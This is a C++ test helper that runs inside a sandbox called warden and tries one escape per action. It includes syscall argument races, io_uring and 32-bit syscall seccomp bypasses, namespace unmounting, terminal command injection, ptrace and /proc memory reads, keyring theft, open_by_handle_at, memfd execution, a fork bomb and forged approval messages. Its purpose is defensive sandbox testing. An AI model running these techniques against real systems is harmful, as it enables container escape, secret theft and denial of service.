// warden-escape-attack: runs inside the sandbox and tries one escape, then prints what the kernel
// answered. The tests in this directory never take that answer as the verdict: they judge by
// what the host sees (a canary file, a listener's log, a host process, /proc from outside).
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/openat2.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

extern char** environ;

namespace {

std::string err_name(int e) {
  const char* n = strerrorname_np(e);
  return n ? n : std::to_string(e);
}

// "what=ok" or "what=errno=NAME", one line each, flushed: the test may read it while we wait.
void say(const std::string& what, long rc) {
  if (rc < 0)
    std::printf("%s=errno=%s\n", what.c_str(), err_name(errno).c_str());
  else
    std::printf("%s=ok\n", what.c_str());
  std::fflush(stdout);
}

long write_all(int fd, const std::string& s) {
  return ::write(fd, s.data(), s.size()) == static_cast<ssize_t>(s.size()) ? 0 : -1;
}

long write_through(int fd) {
  if (fd < 0) return -1;
  long rc = write_all(fd, "escaped\n");
  ::close(fd);
  return rc;
}

long write_path(const char* path) {
  return write_through(::open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644));
}

std::string slurp_fd(int fd) {
  std::string out;
  char buf[4096];
  ssize_t n;
  while (out.size() < (1 << 20) && (n = ::read(fd, buf, sizeof buf)) > 0)
    out.append(buf, static_cast<size_t>(n));
  return out;
}

// Appends what was read to `out` (a file the host inspects); the host looks for the secret.
void keep(const std::string& out, const std::string& data) {
  int fd = ::open(out.c_str(), O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
  if (fd < 0) return;
  (void)write_all(fd, data);
  ::close(fd);
}

long copy(const char* src, const std::string& out) {
  int fd = ::open(src, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  std::string data = slurp_fd(fd);
  ::close(fd);
  keep(out, data);
  return 0;
}

// --- races -----------------------------------------------------------------------------------

// One thread flips `len` bytes at `target` between `a` and `b` while the main thread calls the
// syscall with a pointer to them: the supervisor must judge and perform the same bytes.
class Flipper {
 public:
  Flipper(void* target, const void* a, const void* b, size_t len)
      : target_(static_cast<char*>(target)), a_(a), b_(b), len_(len) {
    std::memcpy(target_, a_, len_);
    thread_ = std::thread([this] {
      while (!stop_.load(std::memory_order_relaxed)) {
        std::memcpy(target_, b_, len_);
        std::memcpy(target_, a_, len_);
      }
    });
  }
  ~Flipper() {
    stop_ = true;
    thread_.join();
  }

 private:
  char* target_;
  const void* a_;
  const void* b_;
  size_t len_;
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

bool parse_inet(const std::string& s, sockaddr_in& a) {
  size_t colon = s.rfind(':');
  if (colon == std::string::npos) return false;
  a = {};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<uint16_t>(std::atoi(s.c_str() + colon + 1)));
  return ::inet_pton(AF_INET, s.substr(0, colon).c_str(), &a.sin_addr) == 1;
}

// vfork: the child shares our memory, so the flipper keeps flipping the path it execs. Apart,
// so that vfork's return twice clobbers nothing of the caller.
__attribute__((noinline)) void exec_once(char** argv) {
  pid_t pid = vfork();
  if (pid == 0) {
    ::execve(argv[0], argv, environ);
    ::_exit(127);
  }
  if (pid > 0) ::waitpid(pid, nullptr, 0);
}

// Races OP for at most max_iter attempts and max_ms milliseconds; prints the attempts made.
int race(const std::string& op, const std::string& inside, const std::string& other, long max_iter,
         long max_ms) {
  static char path[4096];
  static sockaddr_un un;
  static sockaddr_in in;
  std::string a = inside, b = other;
  a.resize(std::max(a.size(), b.size()) + 1, '\0');
  b.resize(a.size(), '\0');
  sockaddr_un ua{}, ub{};
  sockaddr_in ia{}, ib{};
  void* target = path;
  const void *pa = a.data(), *pb = b.data();
  size_t len = a.size();
  if (op == "connect-unix") {
    ua.sun_family = ub.sun_family = AF_UNIX;
    std::snprintf(ua.sun_path, sizeof ua.sun_path, "%s", inside.c_str());
    std::snprintf(ub.sun_path, sizeof ub.sun_path, "%s", other.c_str());
    target = &un, pa = &ua, pb = &ub, len = sizeof un;
  } else if (op == "connect-inet") {
    if (!parse_inet(inside, ia) || !parse_inet(other, ib)) return 2;
    target = &in, pa = &ia, pb = &ib, len = sizeof in;
  }
  const std::string src = inside + ".src";
  char* exec_argv[] = {path, nullptr};
  long attempts = 0;
  const auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(max_ms);
  {
    Flipper flip(target, pa, pb, len);
    while (attempts < max_iter && std::chrono::steady_clock::now() < end) {
      ++attempts;
      if (op == "open") {
        int fd = ::open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd >= 0) ::close(fd);
      } else if (op == "creat") {
        int fd = static_cast<int>(::syscall(SYS_creat, path, 0644));
        if (fd >= 0) ::close(fd);
      } else if (op == "rename") {
        int fd = ::open(src.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd >= 0) ::close(fd);
        ::rename(src.c_str(), path);
      } else if (op == "mkdir") {
        if (::mkdir(path, 0755) == 0) ::rmdir(inside.c_str());
      } else if (op == "connect-unix" || op == "connect-inet") {
        // Non-blocking, and reset on close: no backlog stalls, no TIME_WAIT left on the host.
        int s = ::socket(op == "connect-unix" ? AF_UNIX : AF_INET,
                         SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        if (op == "connect-unix")
          ::connect(s, reinterpret_cast<sockaddr*>(&un), sizeof un);
        else
          ::connect(s, reinterpret_cast<sockaddr*>(&in), sizeof in);
        linger l{1, 0};
        ::setsockopt(s, SOL_SOCKET, SO_LINGER, &l, sizeof l);
        ::close(s);
      } else if (op == "execve") {
        exec_once(exec_argv);
      } else {
        return 2;
      }
    }
  }
  std::printf("attempts=%ld\n", attempts);
  return 0;
}

// --- kernel interfaces that bypass syscalls or ABIs --------------------------------------------

// io_uring: an IORING_OP_OPENAT creating `path`, which no seccomp filter would see.
long io_uring_openat(const char* path) {
  io_uring_params p{};
  int ring = static_cast<int>(::syscall(__NR_io_uring_setup, 4, &p));
  if (ring < 0) return -1;
  size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  auto* sq = static_cast<char*>(
      ::mmap(nullptr, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING));
  auto* sqes =
      static_cast<io_uring_sqe*>(::mmap(nullptr, p.sq_entries * sizeof(io_uring_sqe),
                                        PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES));
  if (sq == MAP_FAILED || sqes == MAP_FAILED) return -1;
  io_uring_sqe& e = sqes[0];
  std::memset(&e, 0, sizeof e);
  e.opcode = IORING_OP_OPENAT;
  e.fd = AT_FDCWD;
  e.addr = reinterpret_cast<std::uint64_t>(path);
  e.len = 0644;
  e.open_flags = O_WRONLY | O_CREAT | O_TRUNC;
  auto* array = reinterpret_cast<unsigned*>(sq + p.sq_off.array);
  auto* tail = reinterpret_cast<std::atomic<unsigned>*>(sq + p.sq_off.tail);
  array[0] = 0;
  tail->store(tail->load() + 1);
  return ::syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0);
}

// i386 creat(path) through int 0x80; the pointer must fit in 32 bits.
[[noreturn]] void int80_creat(const char* path) {
  auto* low = static_cast<char*>(::mmap(nullptr, 4096, PROT_READ | PROT_WRITE,
                                        MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
  std::snprintf(low, 4096, "%s", path);
  long ret;
  asm volatile("int $0x80" : "=a"(ret) : "a"(8), "b"(low), "c"(0644) : "memory");
  std::printf("int80 returned %ld\n", ret);
  std::exit(0);
}

// x32 open(path, O_CREAT): the x86_64 number with the x32 bit set.
[[noreturn]] void x32_creat(const char* path) {
  long r = ::syscall(0x40000000L | __NR_open, path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  std::printf("x32 returned %ld errno=%d\n", r, errno);
  std::exit(0);
}

// In a fresh user and mount namespace the mask could be unmounted, revealing the secret.
void unmask_and_copy(const char* mask, const char* secret, const std::string& out) {
  say("umount", ::umount2(mask, MNT_DETACH));
  say("mount", ::mount("none", mask, "tmpfs", 0, nullptr));
  say("copy", copy(secret, out));
}

int nest(const std::string& mode, const char* mask, const char* secret, const std::string& out) {
  const unsigned long flags = CLONE_NEWUSER | CLONE_NEWNS;
  if (mode == "plain") {
    unmask_and_copy(mask, secret, out);
    return 0;
  }
  if (mode == "unshare") {
    long rc = ::unshare(static_cast<int>(flags));
    say("unshare", rc);
    unmask_and_copy(mask, secret, out);
    return 0;
  }
  long pid;
  if (mode == "clone3") {
    clone_args ca{};
    ca.flags = flags;
    ca.exit_signal = SIGCHLD;
    pid = ::syscall(__NR_clone3, &ca, sizeof ca);
  } else {
    pid = ::syscall(__NR_clone, flags | SIGCHLD, nullptr, nullptr, nullptr, 0);
  }
  say(mode, pid);
  if (pid == 0) {
    unmask_and_copy(mask, secret, out);
    ::_exit(0);
  }
  if (pid > 0) ::waitpid(static_cast<pid_t>(pid), nullptr, 0);
  return 0;
}

// --- terminals ----------------------------------------------------------------------------------

// Pushes a command line into each terminal it can reach: fds 0-2 and /dev/tty.
int tiocsti(const std::string& mode) {
  const std::string line = "echo INJECTED\n";
  std::vector<std::pair<std::string, int>> fds = {{"fd0", 0}, {"fd1", 1}, {"fd2", 2}};
  int tty = ::open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (tty >= 0) fds.push_back({"devtty", tty});
  say("open-devtty", tty);
  for (auto [name, fd] : fds) {
    long rc = 0;
    if (mode == "linux") {
      char sub[2] = {3, 0};  // TIOCL_PASTESEL: the console selection becomes input
      rc = ::syscall(__NR_ioctl, fd, TIOCLINUX, sub);
    } else {
      unsigned long req = TIOCSTI;
      if (mode == "high") req |= 0xdead000000000000UL;  // CVE-2019-7303
      for (char c : line) {
        rc = ::syscall(__NR_ioctl, fd, req, &c);
        if (rc < 0) break;
      }
    }
    // Reported on stderr: stdout may be the terminal under attack.
    std::fprintf(stderr, "%s=%s\n", name.c_str(), rc < 0 ? err_name(errno).c_str() : "ok");
  }
  return 0;
}

// --- processes ----------------------------------------------------------------------------------

int ptrace_all(char** pids, int n) {
  for (int i = 0; i < n; ++i) {
    pid_t pid = std::atoi(pids[i]);
    std::string p = pids[i];
    say("attach-" + p, ::ptrace(PTRACE_ATTACH, pid, nullptr, nullptr));
    say("seize-" + p, ::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr));
    char byte = 0;
    iovec local{&byte, 1}, remote{reinterpret_cast<void*>(0x400000), 1};
    say("vm_readv-" + p, ::process_vm_readv(pid, &local, 1, &remote, 1, 0));
    say("vm_writev-" + p, ::process_vm_writev(pid, &local, 1, &remote, 1, 0));
  }
  std::printf("attempted\n");
  std::fflush(stdout);
  ::sleep(1);  // the host looks at TracerPid meanwhile
  return 0;
}

int signal_all(char** pids, int n) {
  // SIGTERM to init comes back to us (init forwards it): not a way out, just noise.
  ::signal(SIGTERM, SIG_IGN);
  for (int i = 0; i < n; ++i) {
    pid_t pid = std::atoi(pids[i]);
    std::string p = pids[i];
    for (int sig : {SIGSTOP, SIGKILL, SIGTERM, SIGSEGV}) {
      say("kill-" + p + "-" + std::to_string(sig), ::kill(pid, sig));
    }
    int pidfd = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
    say("pidfd_open-" + p, pidfd);
    if (pidfd >= 0) say("pidfd_kill-" + p, ::syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, 0, 0));
  }
  say("kill-all", ::kill(-1, SIGKILL));
  std::printf("attempted\n");
  std::fflush(stdout);
  ::sleep(1);  // the host checks its processes while we are still here
  return 0;
}

// Reads /proc/PID/environ and /proc/PID/mem (and writes to the latter); whatever it got goes to
// `out` for the host to inspect.
int procmem(const char* pid, const std::string& out) {
  const std::string base = std::string("/proc/") + pid;
  say("environ", copy((base + "/environ").c_str(), out));
  say("cmdline", copy((base + "/cmdline").c_str(), out));
  int maps = ::open((base + "/maps").c_str(), O_RDONLY | O_CLOEXEC);
  say("maps", maps);
  std::string text = maps >= 0 ? slurp_fd(maps) : "";
  int mem = ::open((base + "/mem").c_str(), O_RDWR | O_CLOEXEC);
  say("mem-rw", mem);
  if (mem < 0) mem = ::open((base + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
  say("mem-ro", mem);
  if (mem >= 0) {
    size_t pos = 0;
    while (pos < text.size()) {
      unsigned long lo = 0, hi = 0;
      char perms[5] = {};
      if (std::sscanf(text.c_str() + pos, "%lx-%lx %4s", &lo, &hi, perms) == 3 && perms[0] == 'r') {
        std::string chunk(std::min<unsigned long>(hi - lo, 1 << 16), '\0');
        ssize_t n = ::pread(mem, chunk.data(), chunk.size(), static_cast<off_t>(lo));
        if (n > 0) keep(out, chunk.substr(0, static_cast<size_t>(n)));
        if (perms[1] == 'w') {
          // Corrupting the target would show as its death, which the host watches for.
          std::string junk(64, '\xcc');
          say("mem-write", ::pwrite(mem, junk.data(), junk.size(), static_cast<off_t>(lo)));
        }
      }
      pos = text.find('\n', pos);
      if (pos == std::string::npos) break;
      ++pos;
    }
  }
  return 0;
}

int setns_all(char** paths, int n) {
  for (int i = 0; i < n; ++i) {
    int fd = ::open(paths[i], O_RDONLY | O_CLOEXEC);
    say(std::string("open-") + paths[i], fd);
    if (fd >= 0) say(std::string("setns-") + paths[i], ::setns(fd, 0));
  }
  std::printf("attempted\n");
  std::fflush(stdout);
  ::sleep(1);  // the host reads our namespaces meanwhile
  return 0;
}

// --- kernel attack surface ----------------------------------------------------------------------

// Reads a key the host made, by its serial number and by search; adds one to the user keyring.
int keys(long serial, const char* desc, const std::string& out) {
  char buf[256] = {};
  long n = ::syscall(__NR_keyctl, KEYCTL_READ, serial, buf, sizeof buf - 1);
  say("read", n);
  if (n > 0) keep(out, std::string(buf, static_cast<size_t>(std::min<long>(n, sizeof buf - 1))));
  long found = ::syscall(__NR_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", desc, 0);
  say("search", found);
  if (found > 0 && (n = ::syscall(__NR_keyctl, KEYCTL_READ, found, buf, sizeof buf - 1)) > 0)
    keep(out, std::string(buf, static_cast<size_t>(std::min<long>(n, sizeof buf - 1))));
  say("join", ::syscall(__NR_keyctl, KEYCTL_JOIN_SESSION_KEYRING, nullptr));
  say("add_key",
      ::syscall(__NR_add_key, "user", "warden-escape-added", "x", 1, KEY_SPEC_USER_KEYRING));
  return 0;
}

int kernel_surface() {
  bpf_attr attr{};
  attr.map_type = BPF_MAP_TYPE_ARRAY;
  attr.key_size = 4;
  attr.value_size = 4;
  attr.max_entries = 1;
  say("bpf", ::syscall(__NR_bpf, BPF_MAP_CREATE, &attr, sizeof attr));
  perf_event_attr pe{};
  pe.size = sizeof pe;
  pe.type = PERF_TYPE_SOFTWARE;
  pe.config = PERF_COUNT_SW_CPU_CLOCK;
  pe.exclude_kernel = 1;
  say("perf_event_open", ::syscall(__NR_perf_event_open, &pe, 0, -1, -1, 0));
  say("userfaultfd", ::syscall(__NR_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY));
  say("dev-userfaultfd", ::open("/dev/userfaultfd", O_RDWR | O_CLOEXEC));
  return 0;
}

// A file handle the host computed (hex bytes, handle type): opened with open_by_handle_at to
// read a hidden file or write one outside, as "Shocker" did.
int by_handle(const std::string& hex, int type, const std::string& mode, const std::string& out) {
  std::vector<unsigned char> bytes;
  for (size_t i = 0; i + 1 < hex.size(); i += 2)
    bytes.push_back(static_cast<unsigned char>(std::stoi(hex.substr(i, 2), nullptr, 16)));
  std::vector<char> storage(sizeof(file_handle) + bytes.size());
  auto* fh = reinterpret_cast<file_handle*>(storage.data());
  fh->handle_bytes = static_cast<unsigned>(bytes.size());
  fh->handle_type = type;
  std::memcpy(fh->f_handle, bytes.data(), bytes.size());
  int mount_fd = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int flags = mode == "write" ? O_WRONLY : O_RDONLY;
  int fd = static_cast<int>(::syscall(__NR_open_by_handle_at, mount_fd, fh, flags | O_CLOEXEC));
  say("open_by_handle_at", fd);
  if (fd < 0) return 0;
  if (mode == "write") {
    say("write", write_through(fd));
  } else {
    keep(out, slurp_fd(fd));
  }
  return 0;
}

// Runs /bin/sh from a memfd (execveat AT_EMPTY_PATH, or execve of /proc/self/fd/N).
int memfd_exec(const std::string& how, const std::string& script) {
  int mem = static_cast<int>(::syscall(SYS_memfd_create, "payload", 0));
  say("memfd_create", mem);
  if (mem < 0) return 0;
  int sh = ::open("/bin/sh", O_RDONLY | O_CLOEXEC);
  std::string image = slurp_fd(sh);
  (void)write_all(mem, image);
  char* argv[] = {const_cast<char*>("sh"), const_cast<char*>("-c"),
                  const_cast<char*>(script.c_str()), nullptr};
  pid_t pid = ::fork();
  if (pid == 0) {
    if (how == "execveat") {
      ::syscall(SYS_execveat, mem, "", argv, environ, AT_EMPTY_PATH);
    } else {
      std::string self = "/proc/self/fd/" + std::to_string(mem);
      ::execve(self.c_str(), argv, environ);
    }
    std::printf("exec=errno=%s\n", err_name(errno).c_str());
    std::fflush(stdout);
    ::_exit(127);
  }
  int status = 0;
  ::waitpid(pid, &status, 0);
  std::printf("status=%d\n", WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status));
  return 0;
}

// A listener of our own (seccomp NEW_LISTENER) that would CONTINUE every open: if the kernel
// allowed it, our opens would skip warden's.
int stack_listener(const char* canary) {
  sock_filter prog[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_openat, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  sock_fprog fprog{static_cast<unsigned short>(sizeof prog / sizeof prog[0]), prog};
  long listener =
      ::syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &fprog);
  say("new_listener", listener);
  if (listener >= 0) {
    std::thread([fd = static_cast<int>(listener)] {
      for (;;) {
        seccomp_notif req{};
        if (::ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) return;
        seccomp_notif_resp resp{};
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ::ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
      }
    }).detach();
  }
  say("write", write_path(canary));
  return 0;
}

// Forks until `total` forks were attempted in the whole tree (every process keeps forking), then
// everything waits; the first process reports after `seconds` and exits.
int forkbomb(long total, int seconds) {
  auto* counter = static_cast<std::atomic<long>*>(
      ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
  auto* failed = counter + 1;
  pid_t bomber = ::fork();
  if (bomber == 0) {
    while (counter->fetch_add(1) < total) {
      if (::fork() < 0) {
        failed->fetch_add(1);
        break;
      }
    }
    for (;;) ::pause();
  }
  ::sleep(static_cast<unsigned>(seconds));
  std::printf("forks=%ld failed=%ld\n", std::min(counter->load(), total), failed->load());
  return 0;
}

// --- warden's own sockets ----------------------------------------------------------------------

// Connects to a unix socket by path and sends a line (the control protocol's "approve").
int unix_send(const char* path, const std::string& line) {
  int s = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_un a{};
  a.sun_family = AF_UNIX;
  std::snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
  long rc = ::connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a);
  say(std::string("connect-") + path, rc);
  if (rc == 0) {
    say("send", write_all(s, line + "\n"));
    char buf[256];
    ssize_t n = ::read(s, buf, sizeof buf);
    std::printf("reply=%s\n", n > 0 ? std::string(buf, static_cast<size_t>(n)).c_str() : "");
  }
  ::close(s);
  return 0;
}

// Everything the sandbox can say to the resolver on 127.0.0.1:53, over UDP and TCP.
int dns_approve() {
  sockaddr_in ns{};
  ns.sin_family = AF_INET;
  ns.sin_port = htons(53);
  ns.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int u = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  for (const char* text : {"approve 1\n", "y\n", "{\"decision\":\"approve\",\"id\":\"1\"}\n"})
    say("udp",
        ::sendto(u, text, std::strlen(text), 0, reinterpret_cast<sockaddr*>(&ns), sizeof ns));
  // A well-formed query whose name reads as an answer.
  unsigned char q[64] = {0x00, 0x01, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
  size_t n = 12;
  for (const char* label : {"approve", "1"}) {
    q[n++] = static_cast<unsigned char>(std::strlen(label));
    std::memcpy(q + n, label, std::strlen(label));
    n += std::strlen(label);
  }
  q[n++] = 0;
  q[n++] = 0, q[n++] = 1, q[n++] = 0, q[n++] = 1;
  say("udp-query", ::sendto(u, q, n, 0, reinterpret_cast<sockaddr*>(&ns), sizeof ns));
  int t = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  long rc = ::connect(t, reinterpret_cast<sockaddr*>(&ns), sizeof ns);
  say("tcp-connect", rc);
  if (rc == 0) say("tcp-send", write_all(t, "approve 1\n"));
  return 0;
}

// --- privileges ---------------------------------------------------------------------------------

// Run as a setuid or file-capability copy: prints the ids and capabilities it got, then tries to
// read a file its real user may not read, into `out`.
int privileged_read(const char* src, const std::string& out) {
  uid_t r, e, s;
  ::getresuid(&r, &e, &s);
  std::printf("ruid=%d euid=%d suid=%d\n", r, e, s);
  FILE* st = std::fopen("/proc/self/status", "re");
  char line[256];
  while (st != nullptr && std::fgets(line, sizeof line, st) != nullptr)
    if (std::strncmp(line, "CapEff:", 7) == 0) std::printf("%s", line);
  if (st != nullptr) std::fclose(st);
  say("copy", copy(src, out));
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    std::fprintf(stderr, "usage: warden-escape-attack ACTION [ARG...]\n");
    return 2;
  }
  const std::string a = argv[1];
  auto arg = [&](int i) -> const char* { return argc > i ? argv[i] : ""; };
  if (a == "write") return say("write", write_path(arg(2))), 0;
  if (a == "creat")
    return say("creat", write_through(static_cast<int>(::syscall(SYS_creat, arg(2), 0644)))), 0;
  if (a == "openat-dir") {
    int dir = ::open(arg(2), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    say("open-dir", dir);
    return say("openat", write_through(::openat(dir, arg(3), O_WRONLY | O_CREAT | O_TRUNC, 0644))),
           0;
  }
  if (a == "openat2") {
    open_how how{};
    how.flags = O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC;
    how.mode = 0644;
    how.resolve = std::strtoull(arg(3), nullptr, 0);
    return say("openat2", write_through(static_cast<int>(
                              ::syscall(SYS_openat2, AT_FDCWD, arg(2), &how, sizeof how)))),
           0;
  }
  if (a == "rename") return say("rename", ::rename(arg(2), arg(3))), 0;
  if (a == "link") return say("link", ::link(arg(2), arg(3))), 0;
  if (a == "symlink") return say("symlink", ::symlink(arg(2), arg(3))), 0;
  if (a == "symlink-write") {
    say("symlink", ::symlink(arg(2), arg(3)));
    return say("write", write_path(arg(3))), 0;
  }
  if (a == "link-write") {
    say("link", ::link(arg(2), arg(3)));
    int fd = ::open(arg(3), O_WRONLY | O_APPEND | O_CLOEXEC);
    return say("write", write_through(fd)), 0;
  }
  if (a == "chdir-write") {
    say("chdir", ::chdir(arg(2)));
    return say("write", write_path(arg(3))), 0;
  }
  if (a == "reopen-write") {
    // A read-only descriptor (allowed everywhere), then the same file for writing by its
    // /proc/self/fd name.
    int ro = ::open(arg(2), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    say("open-ro", ro);
    std::string self = "/proc/self/fd/" + std::to_string(ro);
    return say("reopen", write_through(::open(self.c_str(), O_WRONLY | O_CLOEXEC))), 0;
  }
  if (a == "copy") return say("copy", copy(arg(2), arg(3))), 0;
  if (a == "race" && argc > 6)
    return race(argv[2], argv[3], argv[4], std::atol(argv[5]), std::atol(argv[6]));
  if (a == "io_uring") return say("io_uring", io_uring_openat(arg(2))), 0;
  if (a == "int80-creat") int80_creat(arg(2));
  if (a == "x32-creat") x32_creat(arg(2));
  if (a == "nest" && argc > 5) return nest(argv[2], argv[3], argv[4], argv[5]);
  if (a == "tiocsti") return tiocsti(arg(2));
  if (a == "ptrace") return ptrace_all(argv + 2, argc - 2);
  if (a == "signal") return signal_all(argv + 2, argc - 2);
  if (a == "procmem") return procmem(arg(2), arg(3));
  if (a == "setns") return setns_all(argv + 2, argc - 2);
  if (a == "keys") return keys(std::atol(arg(2)), arg(3), arg(4));
  if (a == "kernel") return kernel_surface();
  if (a == "handle") return by_handle(arg(2), std::atoi(arg(3)), arg(4), arg(5));
  if (a == "memfd-exec") return memfd_exec(arg(2), arg(3));
  if (a == "stack-listener") return stack_listener(arg(2));
  if (a == "forkbomb") return forkbomb(std::atol(arg(2)), std::atoi(arg(3)));
  if (a == "unix-send") return unix_send(arg(2), arg(3));
  if (a == "dns-approve") return dns_approve();
  if (a == "privileged-read") return privileged_read(arg(2), arg(3));
  if (a == "fds") {
    // Every descriptor we hold, and where it leads.
    DIR* d = ::opendir("/proc/self/fd");
    int self = ::dirfd(d);
    while (dirent* e = ::readdir(d)) {
      if (e->d_name[0] == '.' || std::atoi(e->d_name) == self) continue;
      char target[512] = {};
      (void)!::readlink((std::string("/proc/self/fd/") + e->d_name).c_str(), target,
                        sizeof target - 1);
      std::printf("fd %s -> %s\n", e->d_name, target);
    }
    ::closedir(d);
    std::printf("attempted\n");
    std::fflush(stdout);
    ::sleep(1);  // the host reads our fd table meanwhile
    return 0;
  }
  std::fprintf(stderr, "warden-escape-attack: unknown action %s\n", a.c_str());
  return 2;
}
